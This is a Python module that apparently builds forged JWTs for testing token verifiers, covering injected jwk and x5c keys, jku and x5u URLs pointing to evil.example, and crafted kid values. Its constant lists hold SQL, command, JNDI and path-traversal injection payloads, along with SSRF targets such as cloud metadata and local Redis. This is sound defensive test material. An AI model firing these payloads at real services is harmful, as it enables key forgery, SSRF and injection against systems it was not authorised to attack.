"""Tokens whose header brings a key, points to one, or names one that it should not."""

import hashlib
import json
from base64 import b64encode
from collections.abc import Iterator
from typing import Any

from labkit.forging.corpus.family import Made, family, spelled_out
from labkit.forging.corpus.mint import Mint, Signer, b64, visitor

PATHS = (
    *("../../../../../../dev/null", "/dev/null", "/invalid_path", "..\\..\\..\\NUL", "NUL"),
    *("file:///dev/null", "static/icon.svg", "../../../proc/sys/kernel/randomize_va_space"),
    *("....//....//dev/null", "%2e%2e%2f%2e%2e%2fdev%2fnull", "/dev/null\0.pem", "~/.ssh/id_rsa"),
)
QUERIES = (
    *("x' UNION SELECT 'k'--", "x' UNION SELECT '1';--", "' OR '1'='1", "june'--", "1; DROP TABLE"),
    *('" OR ""="', "june' AND SLEEP(9)--", "*)(uid=*))(|(uid=*", "*", "%", "' || 'a'=='a"),
)
COMMANDS = (
    *("|sleep 10", "| curl https://evil.example/", "june; sleep 9", "$(sleep 9)", "`sleep 9`"),
    *("{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "%s%s%n", "__proto__", "constructor"),
)
ADDRESSES = (
    *("https://evil.example/keys", "http://127.0.0.1:18901/keys", "//evil.example/keys"),
    *("file:///dev/stdin", "data:application/json;base64,e30", "gopher://127.0.0.1:6379/_INFO"),
    *("http://169.254.169.254/latest/meta-data/", "https://[::1]/keys", "keys.json", ""),
)


@family(
    "key in the header", "T9", "T9b", matters="The token brings the key that it is checked with."
)
def key_in_header(mint: Mint) -> Iterator[Made]:
    """A key of the forger's own, put into `jwk` or `x5c`."""
    own = visitor(mint)
    why = "A key that comes with the token is the sender's."
    public = own.public
    bare = {name: value for name, value in public.items() if name not in ("alg", "kid")}
    secret = {"kty": "oct", "k": b64(b"k" * 32), "kid": mint.kid}
    keys = {
        "public": public,
        "without a kid": bare,
        "under the trusted kid": public | {"kid": mint.kid},
        "in a key set": {"keys": [public]},
        "as text": json.dumps(public),
        "in a list": [public],
        "with its private part": public | {"d": _private(own)},
    }
    for name, jwk in keys.items():
        yield f"jwk {name}", mint.by(own, jwk=jwk), why
    for name, jwk in {"null": None, "empty": {}, "true": True}.items():
        yield f"jwk {name}", mint.by_thief(jwk=jwk), why
    yield "jwk is a secret", mint.maced(b"k" * 32, mint.header(alg="HS256", jwk=secret)), why
    yield "jwk, and no kid", mint.by(own, "kid", jwk=bare), why
    yield "jwks", mint.by(own, jwks={"keys": [public]}), why
    yield from _certificates(mint)


def _private(own: Signer) -> str:
    """Return what nobody should show: the private part of a key pair, as a JWK has it."""
    if own.alg == "EdDSA":
        return b64(own.private.private_bytes_raw())
    numbers = own.private.private_numbers()
    value = numbers.d if own.alg == "RS256" else numbers.private_value
    return b64(value.to_bytes(256 if own.alg == "RS256" else 32))


def _certificates(mint: Mint) -> Iterator[Made]:
    own = visitor(mint)
    der, chain = own.certificate, [b64encode(own.certificate).decode()]
    why = "Anyone can make a certificate for a key of their own."
    members: dict[str, dict[str, Any]] = {
        "x5c, self-signed": {"x5c": chain},
        "x5c, twice the same": {"x5c": chain * 2},
        "x5c, as text": {"x5c": chain[0]},
        "x5c, base64url": {"x5c": [b64(der)]},
        "x5c and its thumbprint": {"x5c": chain, "x5t#S256": b64(hashlib.sha256(der).digest())},
        "x5c and jwk": {"x5c": chain, "jwk": own.public},
        "x5c, and another kid": {"x5c": chain, "kid": "other"},
    }
    for name, changed in members.items():
        yield name, mint.by(own, **changed), why
    odd: dict[str, Any] = {"empty": [], "null": None, "garbage": ["MIIB"], "a number": 1}
    for name, value in odd.items():
        yield f"x5c {name}", mint.by_thief(x5c=value), why
    print_ = hashlib.sha1(der, usedforsecurity=False).digest()
    yield "x5t of a certificate of one's own", mint.by_thief(x5t=b64(print_)), why


@family(
    "key by address", "T10", "T10b", matters="The server fetches the sender's key, from anywhere."
)
def key_by_address(mint: Mint) -> Iterator[Made]:
    """`jku` or `x5u` points to a key of the forger's own."""
    host = mint.issuer.partition("://")[2] or mint.issuer
    near = (
        f"{mint.issuer}@evil.example/keys",
        f"{mint.issuer}.evil.example/keys",
        f"{mint.issuer}/go?to=https://evil.example/keys",
        f"{mint.issuer}/../uploads/keys",
        f"https://evil.example/#{host}",
        f"https://evil.example\\@{host}/keys",
        f"https://{host.upper()}:443/uploads/keys",
        f"{mint.issuer}%0d%0aHost:%20evil.example",
    )
    why = "The token must not say where its key is."
    for address in (*ADDRESSES, *near):
        yield f"jku {address!r}", mint.by_thief(jku=address), why
    for address in ("https://evil.example/cert.pem", "http://127.0.0.1:18901/cert.pem", *near[:3]):
        yield f"x5u {address!r}", mint.by_thief(x5u=address), why
    for name, value in {"a list": [ADDRESSES[0]], "null": None, "a number": 1}.items():
        yield f"jku {name}", mint.by_thief(jku=value), why
    token = mint.by_thief(jku=ADDRESSES[0], kid=mint.thief.public["kid"])
    yield "jku, and the thief's kid", token, why
    yield "jku in the claims", mint.stolen(None, mint.admin(jku=ADDRESSES[0])), why


@family("kid", "T11", "T12", matters="A name is used as a path, a query or a command.")
def key_name(mint: Mint) -> Iterator[Made]:
    """The name of a key leads to a key whose content the forger knows."""
    known = "The key that this leads to is known to the forger."
    for kid in PATHS:
        yield f"kid {kid!r}", _known(mint, kid, b""), known
    for kid in QUERIES:
        yield f"kid {kid!r}", _known(mint, kid, b"k" if "'k'" in kid else b"1"), known
    for kid in COMMANDS:
        yield f"kid {kid!r}", _known(mint, kid, b""), "A name is no command."
    near = (
        *(mint.kid.upper(), f"{mint.kid} ", f"{mint.kid}\0", f"{mint.kid}\r\nX: 1", "0", "-1"),
        *(mint.kid.replace("e", "\u0435"), mint.kid[:-1], "other", "https://evil.example/key", ""),
    )
    for kid in dict.fromkeys(name for name in near if name != mint.kid):
        yield f"kid {kid!r}", mint.by_thief(kid=kid), "No trusted key has this name."
    yield "kid of 200000 letters", mint.by_thief(kid="k" * 200_000), "Too long."
    yield from _odd_names(mint)


def _known(mint: Mint, kid: str, secret: bytes) -> str:
    return mint.maced(secret, mint.header(alg="HS256", kid=kid))


def _odd_names(mint: Mint) -> Iterator[Made]:
    why = "`kid` must be a string (RFC 7515 §4.1.4)."
    odd = spelled_out(None, 0, 1, 1.5, True, [], [mint.kid], {}, {"$ne": ""}, {mint.kid: 1})
    for name, kid in odd.items():
        yield f"kid {name}", mint.heading(kid=kid), why, True
        yield f"kid {name}, by a thief", mint.by_thief(kid=kid), why
    other_name = mint.heading(kid=f"{mint.kid}-of-may")
    yield "kid of a withdrawn key", other_name, "No trusted key has this name.", True
    yield "kid empty, signed", mint.heading(kid=""), "No key has an empty name.", True
    long = mint.heading(kid="k" * 2_000)
    yield "kid of 2000 letters, signed", long, "No trusted key has this name.", True
    first = json.dumps(mint.header())
    twice = f'{first[:-1]}, "kid": "other"}}'
    yield "kid twice, the second unknown", mint.token(twice), "It has two readings.", True
    evil = mint.thief.public["kid"]
    forged = mint.stolen(f'{{"kid": {json.dumps(evil)}, {first[1:]}')
    yield "kid twice, by a thief", forged, "It has two readings."


@family(
    "crit",
    "T13",
    matters="The issuer says what must be understood; whoever does not understand it goes on.",
    signed=True,
)
def critical(mint: Mint) -> Iterator[Made]:
    """`crit` names an extension that this service does not know, or is malformed."""
    why = "What is critical and unknown must be refused (RFC 7515 §4.1.11)."
    fifty = [f"x{n}" for n in range(50)]
    unknown: dict[str, dict[str, Any]] = {
        "an unknown extension": {"crit": ["bound-to"], "bound-to": "device 7"},
        "two, one unknown": {"crit": ["b64", "bound-to"], "b64": True, "bound-to": 1},
        "an address": {"crit": ["https://a.example/x"], "https://a.example/x": True},
        "a name of no letters": {"crit": [""], "": 1},
        "fifty extensions": {"crit": fifty, **dict.fromkeys(fifty, 1)},
        "b64 true": {"crit": ["b64"], "b64": True},
        "b64 false, the payload encoded": {"crit": ["b64"], "b64": False},
    }
    for name, members in unknown.items():
        yield f"crit: {name}", mint.heading(**members), why
    odd = spelled_out([], None, True, 1, {}, "exp", "")
    malformed: dict[str, dict[str, Any]] = {
        **{name: {"crit": value} for name, value in odd.items()},
        "a name in a string": {"crit": "bound-to", "bound-to": 1},
        "numbers": {"crit": [1]},
        "lists": {"crit": [["bound-to"]], "bound-to": 1},
        "null in a list": {"crit": [None]},
        "a registered name": {"crit": ["alg"]},
        "typ": {"crit": ["typ"]},
        "exp of the claims": {"crit": ["exp"]},
        "a name that is not there": {"crit": ["bound-to"]},
        "a name twice": {"crit": ["bound-to", "bound-to"], "bound-to": 1},
        "itself": {"crit": ["crit"]},
    }
    for name, members in malformed.items():
        token = mint.heading(**members)
        yield f"crit: {name}", token, "`crit` must list extensions that are there."
    yield "b64 false, not critical", mint.heading(b64=False), "RFC 7797 §6 forbids it."
    bare = mint.header(crit=["b64"], b64=False)
    raw = f"{b64(json.dumps(bare))}.{json.dumps(mint.claims()).replace('.', '')}"
    yield "b64 false, the payload as it is", mint.signed(raw), why
    first, _, end = mint.signed(raw).partition(".")
    detached = f"{first}..{end.rpartition('.')[2]}"
    yield "b64 false, the payload elsewhere", detached, why


@family(
    "type",
    "T8",
    matters="A refresh, identity or reset token opens what only an access token should.",
    signed=True,
)
def token_type(mint: Mint) -> Iterator[Made]:
    """The issuer's signature, on a token that is for something else."""
    why = "It is no access token (RFC 9068 §4, RFC 8725 §3.11)."
    kinds = (
        *("JWT", "jwt", "rt+jwt", "id+jwt", "refresh+jwt", "logout+jwt", "reset+jwt", "dpop+jwt"),
        *("secevent+jwt", "JOSE", "application/jwt", "application/rt+jwt", "access", "Bearer", ""),
        *("at+jwt ", " at+jwt", "at+jwt\0", "at+jwt;a=b", "at+jwtx", "xat+jwt", "at", "at jwt"),
        *("text/at+jwt", "application/application/at+jwt", "/at+jwt", "\u0430t+jwt", "at+\u0237wt"),
    )
    for kind in kinds:
        yield f"typ {kind!r}", mint.heading(typ=kind), why
    for name, odd in spelled_out(None, True, 1, [], ["at+jwt"], {"at+jwt": 1}).items():
        yield f"typ {name}", mint.heading(typ=odd), "`typ` is no string."
    yield "no typ", mint.heading("typ"), why
    yield "typ among the claims", mint.token(mint.header("typ"), mint.claims(typ="at+jwt")), why
    yield "Typ for typ", mint.heading("typ", Typ="at+jwt"), why
